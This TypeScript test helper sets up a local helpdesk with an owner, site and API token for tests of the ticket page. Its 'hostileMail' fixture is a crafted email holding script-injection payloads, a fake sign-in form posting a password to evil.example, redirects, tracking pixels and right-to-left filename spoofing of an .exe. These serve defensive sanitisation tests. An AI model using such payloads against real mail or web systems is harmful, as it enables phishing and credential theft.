// A desk with a signed-in owner, a site, and tickets as customers and mail make them, for tests of the ticket page.

import type { Visitor } from './browser.ts';
import { type BrowserDesk, startDesk } from './desk.ts';
import { giveSession, makeOwner, owner } from './owner.ts';

// biome-ignore lint/suspicious/noExplicitAny: a test reads whatever came
type Json = any;

export interface TicketDesk extends BrowserDesk {
  site: Json;
  /** A call of a program with a team token. */
  api: (method: string, path: string, body?: unknown) => Promise<Json>;
  /** Raw mail to the site. @returns the ulid of its ticket */
  receive: (mail: string) => Promise<string>;
  /** Opens a ticket for a customer. */
  openTicket: (subject: string, message: string, email?: string) => Promise<Json>;
  signIn: (visitor: Visitor, path: string, email?: string) => Promise<void>;
}

export async function startTicketDesk(environment: Record<string, string> = {}): Promise<TicketDesk> {
  const desk = await startDesk('localhost', environment);
  await makeOwner(desk);
  await desk.command('site', 'create', '--name', 'Web shop');
  const { token } = await desk.command('token', 'issue', '--name', 'tests', '--abilities', 'read,write,manage');
  const api: TicketDesk['api'] = async (method, path, body) => {
    const isForm = body instanceof FormData;
    const response = await fetch(`${desk.url}/api/v1${path}`, {
      method,
      headers: { Authorization: `Bearer ${token}`, ...(isForm ? {} : { 'Content-Type': 'application/json' }) },
      ...(body === undefined ? {} : { body: isForm ? body : JSON.stringify(body) }),
    });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
    return text === '' ? null : JSON.parse(text);
  };
  const [site] = (await api('GET', '/sites')).data;
  const [own] = (await api('GET', `/sites/${site.id}/agents`)).data;
  const inbound = new URL(site.inbound_webhook_url).pathname.replace(/webhooks\/\w+\//, 'webhooks/raw/');
  return {
    ...desk,
    site: { ...site, owner: own },
    api,
    async receive(mail) {
      const body = mail.replace(/\r?\n/g, '\r\n');
      const response = await fetch(desk.url + inbound, { method: 'POST', body });
      const { ticket, message } = (await response.json()) as { ticket: string | null; message: string };
      if (ticket === null) throw new Error(message);
      return ticket;
    },
    async openTicket(subject, message, email = 'mia@example.org') {
      const made = await api('POST', '/tickets', { site_id: site.id, email, name: 'Mia Jansen', subject, message });
      return made.data;
    },
    async signIn(visitor, path, email = owner.email) {
      await giveSession(visitor, desk, email);
      await visitor.page.goto(desk.url + path);
      await visitor.page.waitForSelector('.thread .message, .page-note, [role=row] a');
    },
  };
}

export const onePixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** What the worst sender would try, in every part of a mail. */
export const hostileMail = `From: =?utf-8?Q?Eve_=E2=80=AEgpj.exe_&lt;b&gt;?= <eve@example.org>
To: shop@desk.example
Subject: =?utf-8?Q?Order_=E2=80=AEdne_<img_src=3Dx_onerror=3Dsteal()>?= ${'x'.repeat(180)}
Message-ID: <hostile@example.org>
Content-Type: multipart/mixed; boundary=x

--x
Content-Type: text/html; charset=utf-8

<div style="position:fixed;inset:0;z-index:9;background:red">over everything</div>
<p>Hello <b>team</b> ${'w'.repeat(10_000)}</p>
<a href="javascript:parent.steal()">click me</a> <a href="https://other.example/track">track</a>
<script>parent.steal(); top.location = 'https://evil.example';</script>
<form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
<img src="https://tracker.example/pixel.png" alt="" onerror="parent.steal()">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object>
<svg onload="parent.steal()"></svg><table background="https://tracker.example/table.png"><tr><td>cell</td></tr></table>
--x
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="tool.exe"

MZ
--x
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename*=UTF-8''photo%E2%80%AEgpj.png

${onePixel}
--x--
`;

/** A small PDF that viewers show. */
export const smallPdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
